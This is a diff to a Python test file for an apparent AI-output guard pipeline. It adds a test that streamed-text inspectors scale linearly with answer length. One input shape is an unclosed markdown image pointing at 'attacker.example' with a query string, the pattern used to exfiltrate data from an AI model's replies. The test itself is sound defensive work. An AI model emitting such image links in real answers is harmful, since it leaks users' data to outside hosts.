@@ -193,6 +193,35 @@ def test_each_guard_grows_linearly(guard: str, axis: str, base: int, shape: Any,
     assert_near_linear(f"guards.{guard}", axis, base, shape, run)
 
 
+STREAMED = {
+    "prose": lambda n: (SENTENCE * (n // len(SENTENCE) + 1))[:n],
+    "one endless word": lambda n: "a" * n,
+    "an image never closed": lambda n: "![x](https://attacker.example/?q=" + "a" * n,
+}
+
+
+@pytest.mark.parametrize("shape", list(STREAMED))
+def test_stream_inspectors_grow_linearly_with_answer_length(shape: str) -> None:
+    """A long answer streamed in small deltas (what a hostile upstream can send): each delta's work
+    must not depend on how much came before it."""
+    body = chat_body(3)
+    body["messages"][0]["content"] = SENTENCE * 4  # enough words for the system-prompt overlap scan
+    stages = [s for s in _pipeline().stages if hasattr(s.guard, "stream_inspector")]
+    assert stages, "no stage inspects streamed text"
+
+    def run(text: str) -> None:
+        ex = _exchange(body)
+        inspectors = [s.guard.stream_inspector(ex) for s in stages]
+        for i in range(0, len(text), 4):
+            for inspector in inspectors:
+                inspector.feed(text[i:i + 4])
+        for inspector in inspectors:
+            inspector.end_of_text()
+            inspector.close()
+
+    assert_near_linear("stream inspectors (4-char deltas)", shape, 12_500, STREAMED[shape], run)
+
+
 # -- redaction and evidence ------------------------------------------------------------------------
 
 REDACTION_INPUTS = {
